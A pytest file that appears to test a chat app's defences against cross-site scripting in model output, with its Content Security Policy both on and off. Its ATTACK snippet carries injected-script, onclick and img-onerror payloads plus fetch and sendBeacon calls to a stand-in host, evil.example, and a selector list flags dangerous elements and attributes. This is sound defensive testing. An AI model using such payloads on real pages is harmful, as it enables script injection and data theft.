"""What a model says reaches the page as text, whatever it is: with its policy, and with the policy switched off."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from payloads import PAYLOADS
from sciexam.report.plain_text import plain_text
from served import Server, Start

pytestmark = pytest.mark.slow

LOOK = """() => {
    const all = [...document.querySelectorAll("*")];
    const alien = "img, image, svg, math, iframe, frame, object, embed, base, video, audio, source, template, " +
        "portal, meta[http-equiv], link:not([rel=icon], [href='/chat.css']), script:not([src='/chat.js']), " +
        "style, main a, main input:not(#token)";
    const attributes = all.flatMap(one => one.getAttributeNames());
    return {
        pwned: window.pwned ?? null,
        alien: all.filter(one => one.matches(alien)).map(one => one.outerHTML.slice(0, 200)),
        active: attributes.filter(name => /^on|^style$|^srcdoc$|^xlink:|^formaction$/.test(name)),
        texts: [...document.querySelectorAll(".text")].map(one => one.textContent),
        questions: [...document.querySelectorAll(".question")].map(one => one.textContent),
    };
}"""


@pytest.fixture(scope="module")
def server(speaking: Start) -> Server:
    return speaking()


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])
def test_nothing_comes_of_what_a_model_says(server: Server, opened: Callable[..., Any], policy: bool) -> None:
    page = opened("about:blank", bypass_csp=not policy)
    did: list[str] = []
    page.on("request", lambda request: did.append(request.url) if not request.url.startswith(server.url) else None)
    page.on("dialog", lambda dialog: did.append("dialog"))
    page.on("console", lambda message: did.append(message.text))
    page.on("framenavigated", lambda frame: did.append(frame.url) if frame.url != f"{server.url}/" else None)
    page.context.on("page", lambda other: did.append(other.url))
    page.goto(f"{server.url}/")
    page.wait_for_selector("#welcome:not([hidden])")
    did[:] = [one for one in did if one != "data:,"]
    assert len(PAYLOADS) >= 33
    asked = []
    for number, payload in enumerate(PAYLOADS):
        if number % 5 == 0 and number:
            page.click("#new")
            asked = []
        for text in (f"payload {number}", f"say: {payload}"):
            asked.append((text, payload))
            page.fill("#question", text)
            page.keyboard.press("Enter")
            page.wait_for_selector("#send:not([hidden])")
        found = page.evaluate(LOOK)
        assert (found["pwned"], found["alien"], found["active"]) == (None, [], [])
        assert sorted(found["texts"][-4:-2]) == [f"{plain_text(payload)} {letter}" for letter in "bs"]
        assert found["texts"][-2:] == [plain_text(payload)] * 2
        assert found["questions"] == [text for text, _ in asked]
    page.click("[data-choice=left]")
    page.wait_for_selector(".outcome")
    page.wait_for_timeout(200)
    assert did == []


ATTACK = """() => {
    const script = document.createElement("script");
    try { script.textContent = "window.inline = true"; } catch { window.refused = true; }
    document.body.append(script);
    const button = document.createElement("button");
    try { button.setAttribute("onclick", "window.handled = true"); } catch { window.refused = true; }
    document.body.append(button);
    button.click();
    const image = "<img src=x onerror='window.pwned = 1'>";
    try { document.body.insertAdjacentHTML("beforeend", image); } catch { window.refused = true; }
    fetch("https://evil.example/fetched").catch(() => 0);
    navigator.sendBeacon("https://evil.example/beacon", "x");
    return new Promise(done => setTimeout(() => done([!!window.inline, !!window.handled, !!window.pwned]), 300));
}"""


def test_the_policy_by_itself_stops_what_would_get_in(server: Server, opened: Callable[..., Any]) -> None:
    asked: list[str] = []

    def answer(route: Any) -> None:
        asked.append(route.request.url)
        route.abort()

    for policy in (True, False):
        page = opened("about:blank", bypass_csp=not policy)
        page.context.route("https://evil.example/**", answer)
        page.goto(f"{server.url}/")
        assert page.evaluate(ATTACK) == [not policy] * 3
        assert bool(asked) == (not policy)
